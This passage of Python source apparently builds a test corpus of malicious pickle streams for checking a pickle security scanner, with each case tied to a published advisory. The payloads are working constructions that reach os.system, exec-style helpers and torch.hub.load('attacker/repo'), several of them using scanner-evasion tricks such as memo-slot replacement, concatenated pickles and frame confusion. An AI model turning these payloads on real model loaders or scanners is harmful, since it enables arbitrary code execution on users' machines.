    add(Case("GHSA-v7x6-rv5q-mhwc timeit.timeit setup (picklescan)", (
        PROTO(2)
        + GLOBAL("timeit", "timeit")
        + BINUNICODE("pass") + _src(PY_OPEN) + TUPLE2                  # timeit('pass', setup=<payload>)
        + REDUCE + STOP),
        "unknown-callable", _refs("timeit.timeit"), imports=("timeit",)))
    add(Case("GHSA-7wx9-6375-f5wh cProfile.run (picklescan)", (
        PROTO(2)
        + GLOBAL("cProfile", "run") + _src(PY_OPEN) + TUPLE1 + REDUCE + STOP),
        "unknown-callable", _refs("cProfile.run"), imports=("cProfile",)))
    add(Case("GHSA-46h3-79wf-xr6c trace.Trace.run (picklescan)", (
        PROTO(4)
        + GLOBAL("trace", "Trace.run")                                 # unbound method, self built below
        + GLOBAL("trace", "Trace") + EMPTY_TUPLE + REDUCE
        + _src(PY_OPEN) + TUPLE2 + REDUCE + STOP),
        "unknown-callable", _refs("trace.Trace.run"), imports=("trace",)))
    add(Case("GHSA-vvpj-8cmc-gx39 pkgutil.resolve_name (picklescan)", (
        PROTO(2)
        + GLOBAL("pkgutil", "resolve_name") + BINUNICODE("os:system") + TUPLE1 + REDUCE  # -> os.system
        + BINUNICODE(TOUCH) + TUPLE1 + REDUCE + STOP),
        "unknown-callable", _refs("pkgutil.resolve_name"), imports=("pkgutil",)))
    add(Case("runpy._run_code with builtins.compile (modelscan/fickling unsafe imports)", (
        PROTO(2)
        + GLOBAL("runpy", "_run_code")
        + GLOBAL("builtins", "compile") + _src(PY_OPEN) + BINUNICODE("x") + BINUNICODE("exec") + TUPLE3 + REDUCE
        + EMPTY_DICT + TUPLE2 + REDUCE + STOP),
        "unknown-callable", _refs("runpy._run_code")))
    add(Case("distutils.file_util.write_file file-write bypass (fickling #210, picklescan)", (
        PROTO(2)
        + GLOBAL("distutils.file_util", "write_file") + BINUNICODE(MARKER) + EMPTY_LIST + TUPLE2
        + REDUCE + STOP),
        "unknown-callable", _refs("distutils.file_util.write_file"), real=sys.version_info < (3, 12),
        imports=("distutils",)))
    add(Case("GHSA-r8g5-cgf2-4m4m idlelib.pyshell (picklescan)", (
        PROTO(4)
        + GLOBAL("idlelib.pyshell", "ModifiedInterpreter.runcode")
        + NONE + _src(PY_OPEN) + TUPLE2 + REDUCE + STOP),
        "unknown-callable", _refs("idlelib.pyshell.ModifiedInterpreter.runcode"), real=False,
        imports=("idlelib",)))
    add(Case("fickling numpy.f2py.crackfortran._eval_length", (
        PROTO(2)
        + GLOBAL("numpy.f2py.crackfortran", "_eval_length") + _src(PY_SYSTEM) + EMPTY_DICT + TUPLE2
        + REDUCE + STOP),
        "unknown-callable", _refs("numpy.f2py.crackfortran._eval_length"), real=False))
    add(Case("torch.load nested checkpoint (torch helper)", (
        PROTO(2)
        + GLOBAL("torch", "load") + BINUNICODE("evil.pt") + TUPLE1 + REDUCE + STOP),
        "unknown-callable", _refs("torch.load"), real=False, imports=("torch",)))
    add(Case("torch.utils.cpp_extension.load_inline (torch helper)", (
        PROTO(2)
        + GLOBAL("torch.utils.cpp_extension", "load_inline")
        + BINUNICODE("m") + BINUNICODE("int x = system(\"touch MARKER\");") + TUPLE2 + REDUCE + STOP),
        "unknown-callable", _refs("torch.utils.cpp_extension.load_inline"), real=False, imports=("torch",)))
    add(Case("torch.hub.load (torch helper)", (
        PROTO(2)
        + GLOBAL("torch.hub", "load") + BINUNICODE("attacker/repo") + BINUNICODE("model") + TUPLE2
        + REDUCE + STOP),
        "unknown-callable", _refs("torch.hub.load"), real=False, imports=("torch",)))

    # ---- _compat_pickle renames and dotted names ----------------------------------------------------------
    add(Case("GHSA-84r2-jw7c-4r5q cPickle.loads nested pickle via rename", (
        PROTO(2)
        + GLOBAL("cPickle", "loads")                                   # -> pickle.loads
        + SHORT_BINBYTES(GLOBAL("os", "system") + MARK + STRING(TOUCH) + TUPLE + REDUCE + STOP) + TUPLE1
        + REDUCE + STOP),
        "compat", _refs("pickle.loads", "cPickle.loads", "_pickle.loads")))
    add(Case("__builtin__.getattr + __builtin__.__import__ renames", (
        PROTO(2)
        + GLOBAL("__builtin__", "getattr")
        + GLOBAL("__builtin__", "__import__") + BINUNICODE("os") + TUPLE1 + REDUCE
        + BINUNICODE("system") + TUPLE2 + REDUCE
        + BINUNICODE(TOUCH) + TUPLE1 + REDUCE + STOP),
        "compat", _refs("builtins.getattr", "__builtin__.getattr")))
    add(Case("GHSA-vvpj-8cmc-gx39 dotted builtins.__import__ via pkgutil module attr", (
        PROTO(4)
        + SG("pkgutil", "importlib.import_module")                     # pkgutil imports importlib
        + SHORT_BINUNICODE("os") + TUPLE1 + REDUCE
        + BINUNICODE("system") + TUPLE1 + b"\x86" + POP + STOP),
        "dotted", _refs("pkgutil.importlib.import_module"), real=False))
    add(Case("picklescan#22 STACK_GLOBAL names from a replaced memo slot", (
        PROTO(4)
        + SHORT_BINUNICODE("collections") + BINPUT(0)                  # memo[0] = 'collections' (what a scanner sees)
        + SHORT_BINUNICODE("OrderedDict") + BINPUT(1) + POP + POP
        + SHORT_BINUNICODE("os") + BINPUT(0) + POP                     # memo[0] replaced by 'os'
        + SHORT_BINUNICODE("system") + BINPUT(1) + POP
        + BINGET(0) + BINGET(1) + STACK_GLOBAL
        + SHORT_BINUNICODE(TOUCH) + TUPLE1 + REDUCE + STOP),
        "memo", OS_SYSTEM))
    add(Case("INST subprocess check_output via _compat rename", (
        MARK + MARK + STRING("touch") + STRING(MARKER) + LIST          # MARK ['touch', 'MARKER']
        + INST("commands", "getstatusoutput") + STOP),                 # -> subprocess.getstatusoutput([...])
        "inst-obj", _refs("subprocess.getstatusoutput", "commands.getstatusoutput"), real=False,
        imports=("subprocess",)))
    add(Case("OBJ with a memo-sourced class", (
        PROTO(2)
        + GLOBAL("os", "system") + BINPUT(3) + POP
        + MARK + BINGET(3) + BINUNICODE(TOUCH) + OBJ + STOP),
        "inst-obj", OS_SYSTEM))

    # ---- parser confusion ---------------------------------------------------------------------------------
    add(Case("GHSA-9gvj-pp9x-gcfr payload then bad UTF-8 (picklescan parsing flaw)", (
        PROTO(2) + GLOBAL("os", "system") + BINUNICODE(TOUCH) + TUPLE1 + REDUCE
        + b"X\x02\x00\x00\x00\xff\xfe" + STOP),                       # BINUNICODE of invalid UTF-8
        "parser", OS_SYSTEM, error="structural", wellformed=False))
    add(Case("payload pickle then benign pickle (two pickles concatenated)", (
        PROTO(2) + GLOBAL("os", "system") + BINUNICODE(TOUCH) + TUPLE1 + REDUCE + POP + NONE + STOP
        + PROTO(2) + NONE + STOP),                                     # a second stream a scanner may read alone
        "parser", OS_SYSTEM, error="structural"))
    add(Case("PROTO opcode again mid-stream", (
        PROTO(2) + GLOBAL("os", "system") + PROTO(4)                   # a second PROTO after the first opcode
        + BINUNICODE(TOUCH) + TUPLE1 + REDUCE + STOP),
        "parser", OS_SYSTEM, error="structural"))
    add(Case("FRAME around STOP then payload in the next frame", (
        PROTO(4) + FRAME(2) + NONE + STOP                              # a reader that trusts frames stops here
        + FRAME(len(payload_sg := SG("os", "system") + SHORT_BINUNICODE(TOUCH) + TUPLE1 + REDUCE + STOP))
        + payload_sg),
        "parser", OS_SYSTEM, error="structural", real=False))

    # ---- abuse of allowlisted helpers -------------------------------------------------------------------------
    add(Case("CVE-2025-32434 _rebuild_from_type_v2 with memo-sourced func", (
        PROTO(2)
        + GLOBAL("posix", "system") + BINPUT(9) + POP
        + GLOBAL("torch._utils", "_rebuild_from_type_v2")
        + MARK + BINGET(9) + GLOBAL("collections", "OrderedDict") + BINUNICODE(TOUCH) + TUPLE1 + EMPTY_DICT
        + TUPLE + REDUCE + STOP),
        "abuse-helper", _refs("posix.system", "torch._utils._rebuild_from_type_v2"), real=False))
    add(Case("CVE-2026-24747 SETITEMS applied to a non-dict (torch weights_only)", (
        PROTO(2)
        + GLOBAL("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + GLOBAL("builtins", "set")
        + EMPTY_LIST + TUPLE1 + REDUCE                                 # set([])
        + MARK + BINUNICODE("__class__") + GLOBAL("os", "system") + SETITEMS  # SETITEMS on a set
        + STOP),
        "build-injection", error="structural", real=False))
    return c


CORPUS = build_corpus()
